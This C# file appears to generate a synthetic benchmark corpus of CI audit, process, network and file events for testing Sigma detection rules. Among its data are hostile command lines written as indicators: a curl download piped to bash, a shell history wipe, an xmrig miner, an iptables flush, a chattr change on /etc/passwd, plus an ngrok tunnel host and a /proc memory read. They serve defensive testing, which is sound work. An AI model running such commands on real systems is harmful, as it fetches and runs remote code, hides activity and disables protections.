using PipeWatch.Events;

namespace PipeWatch.Bench;

/// <summary>
/// Mixed events for the sigma suite, fixed seed: 35% GitHub audit entries, 5% Bitbucket audit entries, 35% runner
/// process starts, 15% network connections, 10% file opens, in the shapes the readers make. About 1 in 500 is an
/// indicator some rule looks for (a download piped to a shell, a history wipe, a miner, a tunnel, a disabled control).
/// </summary>
internal static class SigmaEventCorpus
{
    private static readonly string[] GitHubActions =
    [
        "git.clone", "git.push", "git.fetch", "pull_request.merge", "pull_request.create", "workflows.completed_workflow_run", "repo.update",
        "issue_comment.create", "team.add_member", "repo.add_topic", "protected_branch.update_required_status_checks", "org.update_member_repository_creation_permission",
    ];

    private static readonly string[] GitHubIndicators = ["repo.destroy", "org.disable_two_factor_requirement", "repository_secret_scanning.disable", "org.saml_disabled", "repo.transfer_outgoing"];

    private static readonly (string Category, string Action)[] BitbucketActions =
    [
        ("Authentication", "User logged in"), ("Repositories", "Repository created"), ("Projects", "Project permission granted"), ("Pull requests", "Pull request merged"),
    ];

    private static readonly (string Image, string CommandLine)[] Processes =
    [
        ("/usr/bin/git", "git fetch --no-tags --prune --progress --depth=1 origin +refs/heads/main:refs/remotes/origin/main"),
        ("/usr/bin/dotnet", "dotnet test --no-build --configuration Release --logger trx"),
        ("/usr/bin/node", "node /home/runner/work/_actions/actions/setup-node/v4/dist/setup/index.js"),
        ("/usr/bin/npm", "npm ci --ignore-scripts --no-audit --prefer-offline"),
        ("/usr/bin/bash", "/usr/bin/bash -e /home/runner/work/_temp/3b6f1c2a-9d0e-4c57-8f0b-2d1f5a6e7c90.sh"),
        ("/usr/bin/docker", "docker build --pull -t ghcr.io/acme/payments-api:4f2c1d9 ."),
        ("/usr/bin/tar", "tar -xzf /home/runner/work/_temp/cache.tgz -C /home/runner/.cache"),
        ("/usr/bin/python3", "python3 -m pytest -q tests/unit --maxfail=1"),
        ("/usr/bin/make", "make -j2 build"),
        ("/usr/bin/grep", "grep -rn TODO src/"),
        ("/usr/bin/cat", "cat /proc/meminfo"),
        ("/usr/bin/ls", "ls -la /home/runner/work/payments-api"),
    ];

    private static readonly (string Image, string CommandLine)[] ProcessIndicators =
    [
        ("/usr/bin/bash", "bash -c curl -sSfL https://example.net/i.sh | bash"),
        ("/usr/bin/bash", "history -c"),
        ("/tmp/.x/xmrig", "/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333"),
        ("/usr/sbin/iptables", "iptables -F"),
        ("/usr/bin/chattr", "chattr -i /etc/passwd"),
    ];

    private static readonly string[] Hosts = ["api.github.com", "registry.npmjs.org", "pypi.org", "objects.githubusercontent.com", "ghcr.io", "nuget.org", "dl-cdn.alpinelinux.org"];

    private static readonly string[] Files = ["/home/runner/work/payments-api/src/app.ts", "/etc/hosts", "/home/runner/.npmrc", "/tmp/cache.tgz", "/proc/self/status"];

    /// <summary>Events <paramref name="first"/> to <paramref name="first"/> + <paramref name="count"/> - 1: the same events for the same range, every time.</summary>
    public static Event[] Build(int first, int count)
    {
        var random = new Random(7 + first);
        var start = new DateTimeOffset(2026, 11, 1, 0, 0, 0, TimeSpan.Zero);
        var repositories = Enumerable.Range(0, 50).Select(i => CiContext.ForRepository($"acme/service-{i}", "github")).ToArray();
        var runs = Enumerable.Range(0, 200).Select(i => new CiContext($"acme/service-{i % 50}", "CI", (7_100_000_000L + i).ToString(System.Globalization.CultureInfo.InvariantCulture), Job: "build", Platform: "github")).ToArray();
        var actors = Enumerable.Range(0, 300).Select(i => $"dev-{i}").ToArray();
        var origin = new Origin("bench");
        var events = new Event[count];
        for (var n = 0; n < count; n++)
        {
            var i = first + n;
            var time = start.AddMilliseconds(i * 20L);
            var indicator = random.Next(500) == 0;
            var roll = random.Next(100);
            events[n] = roll switch
            {
                < 35 => Audit(i, time, "github.audit", indicator ? Pick(random, GitHubIndicators) : Pick(random, GitHubActions), Pick(random, actors), Pick(random, repositories), null, origin),
                < 40 => Bitbucket(i, time, random, actors, origin),
                < 75 => Process(i, time, indicator ? Pick(random, ProcessIndicators) : Pick(random, Processes), Pick(random, runs), origin),
                < 90 => Telemetry(i, time, "network", new() { ["destination.domain"] = indicator ? "abc123.ngrok-free.app" : Pick(random, Hosts), ["destination.port"] = "443", ["process.executable"] = "/usr/bin/curl" }, Pick(random, runs), origin),
                _ => Telemetry(i, time, "file", new() { ["file.path"] = indicator ? "/proc/2154/mem" : Pick(random, Files), ["process.executable"] = "/usr/bin/python3" }, Pick(random, runs), origin),
            };
        }

        return events;
    }

    public static string Describe(IEnumerable<Event> events) =>
        string.Join(", ", events.GroupBy(e => e.Kind == EventKind.Telemetry ? e.Dataset : e.Dataset).OrderByDescending(g => g.Count()).Select(g => $"{g.Key} {g.Count():N0}"));

    private static T Pick<T>(Random random, T[] items) => items[random.Next(items.Length)];

    private static Event Audit(int i, DateTimeOffset time, string dataset, string action, string actor, CiContext ci, Dictionary<string, string>? fields, Origin origin) => new()
    {
        Kind = EventKind.Audit,
        Id = $"bench:{i}",
        Timestamp = time,
        Dataset = dataset,
        Action = action,
        Outcome = Outcome.Success,
        Ci = ci,
        Organization = "acme",
        UserName = actor,
        Client = new Client("203.0.113.7", "US", "git/2.45.0"),
        Fields = fields ?? new Dictionary<string, string>(1) { ["github.operation_type"] = "modify" },
        Origin = origin,
    };

    private static Event Bitbucket(int i, DateTimeOffset time, Random random, string[] actors, Origin origin)
    {
        var (category, action) = random.Next(200) == 0 ? ("Authentication", "User login failed") : Pick(random, BitbucketActions);
        return Audit(i, time, "bitbucket.audit", action, Pick(random, actors), CiContext.ForRepository(null, "bitbucket"), new Dictionary<string, string>(1) { ["bitbucket.audit_category"] = category }, origin);
    }

    private static Event Process(int i, DateTimeOffset time, (string Image, string CommandLine) process, CiContext run, Origin origin) =>
        Telemetry(i, time, "process", new()
        {
            ["process.executable"] = process.Image,
            ["process.command_line"] = process.CommandLine,
            ["process.pid"] = "4242",
            ["process.parent.executable"] = "/home/runner/actions-runner/bin/Runner.Worker",
            ["user.name"] = "runner",
        }, run, origin);

    private static Event Telemetry(int i, DateTimeOffset time, string category, Dictionary<string, string> fields, CiContext run, Origin origin)
    {
        fields["event.category"] = category;
        fields["host.os.type"] = "linux";
        return new Event
        {
            Kind = EventKind.Telemetry,
            Id = $"bench:{i}",
            Timestamp = time,
            Dataset = $"runner.{category}",
            Ci = run,
            UserName = "runner",
            Fields = fields,
            Origin = origin,
        };
    }
}
